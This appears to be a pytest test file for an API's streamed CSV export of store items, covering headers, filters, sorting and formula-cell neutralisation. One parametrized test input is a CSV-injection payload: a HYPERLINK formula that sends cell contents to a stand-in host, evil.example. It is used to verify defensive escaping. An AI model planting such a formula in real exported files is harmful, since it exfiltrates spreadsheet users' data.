"""CSV: every matching item streamed with a header row; formula cells neutralised."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from app.extensions import db
from app.models import Item
from app.representations.csvstream import lines, neutralise
from tests.problems import assert_problem

COLUMNS = [
    "id",
    "store_id",
    "name",
    "price",
    "quantity",
    "sku",
    "description",
    "created_at",
    "updated_at",
]


def _rows(response) -> list[list[str]]:
    assert response.status_code == 200, response.data[:300]
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    return list(csv.reader(io.StringIO(response.get_data(as_text=True), newline="")))


def _bulk_items(app, store_id: int, count: int) -> None:
    """Many items straight into the database: the HTTP path is not what is tested here."""
    with app.app_context():
        db.session.add_all(
            Item(store_id=store_id, name=f"item {n:05d}", price=Decimal(n % 50), quantity=n)
            for n in range(count)
        )
        db.session.commit()


@pytest.mark.parametrize(
    ("query", "headers"),
    [
        ("?format=csv", {}),
        ("", {"Accept": "text/csv"}),
        ("", {"Accept": "text/*;q=0.9, text/html;q=0"}),
    ],
)
def test_items_as_csv_by_accept_and_by_query(client, alice, store, query, headers):
    client.post(
        f"/v1/stores/{store['id']}/items",
        json={"name": "Tea", "price": "2.50", "quantity": 3, "sku": "T-1"},
        headers=alice.headers,
    )
    r = client.get(f"/v1/stores/{store['id']}/items{query}", headers=headers)
    rows = _rows(r)
    assert rows[0] == COLUMNS
    assert rows[1][2:6] == ["Tea", "2.50", "3", "T-1"] and rows[1][6] == ""
    assert "Accept" in r.headers["Vary"]
    assert (
        r.headers["Content-Disposition"] == f'attachment; filename="store-{store["id"]}-items.csv"'
    )


def test_csv_streams_every_matching_item_without_pagination(app, client, store):
    _bulk_items(app, store["id"], 2100)  # more than two keyset batches of 1000
    r = client.get(f"/v1/stores/{store['id']}/items?format=csv&limit=5")
    assert r.is_streamed
    rows = _rows(r)
    assert len(rows) == 2101 and rows[0] == COLUMNS
    ids = [int(row[0]) for row in rows[1:]]
    assert ids == sorted(ids) and len(set(ids)) == 2100


def test_csv_honours_filters_and_sort(app, client, store):
    _bulk_items(app, store["id"], 120)
    query = "?format=csv&min_price=10&max_price=12&sort=-price&q=item"
    rows = _rows(client.get(f"/v1/stores/{store['id']}/items{query}"))[1:]
    expected = sorted(((n % 50, n) for n in range(120) if 10 <= n % 50 <= 12), reverse=True)
    assert [(Decimal(row[3]), int(row[4])) for row in rows] == expected


def test_an_empty_store_is_a_header_row(client, store):
    assert _rows(client.get(f"/v1/stores/{store['id']}/items", headers={"Accept": "text/csv"})) == [
        COLUMNS
    ]


@pytest.mark.parametrize(
    "name",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
        "+SUM(1,2)",
        "-2+3",
        "@SUM(A1)",
        "\tTAB",
        "\r=CR",
    ],
)
def test_formula_cells_are_neutralised(client, alice, store, name):
    r = client.post(
        f"/v1/stores/{store['id']}/items",
        json={"name": "x" + name, "price": 1, "description": name, "sku": name[:60]},
        headers=alice.headers,
    )
    assert r.status_code == 201, r.json
    row = _rows(client.get(f"/v1/stores/{store['id']}/items?format=csv"))[1]
    assert row[2] == "x" + name  # not at the start: left alone
    assert row[6] == "'" + name and row[5] == "'" + name[:60]


def test_the_reusable_writer_neutralises_and_keeps_numbers():
    assert neutralise("=1+1") == "'=1+1" and neutralise("plain") == "plain"
    assert neutralise(-3) == -3 and neutralise(Decimal("-1.50")) == Decimal("-1.50")
    assert neutralise(None) == "" and neutralise(True) == "true"
    text = "".join(lines(["row", "field", "message", "value"], [{"row": 2, "value": "@x"}]))
    assert text == "row,field,message,value\r\n2,,,'@x\r\n"


def test_csv_is_not_offered_for_single_resources_or_store_lists(client, store):
    assert_problem(client.get(f"/v1/stores/{store['id']}?format=csv"), 406)
    assert_problem(client.get("/v1/stores", headers={"Accept": "text/csv"}), 406)


def test_csv_errors_are_problems_in_json(client):
    assert_problem(client.get("/v1/stores/999999/items?format=csv"), 404)
    r = client.get("/v1/stores/999999/items?format=csv&sort=colour")
    assert r.status_code in (404, 422)
    assert r.headers["Content-Type"].startswith("application/problem+json")
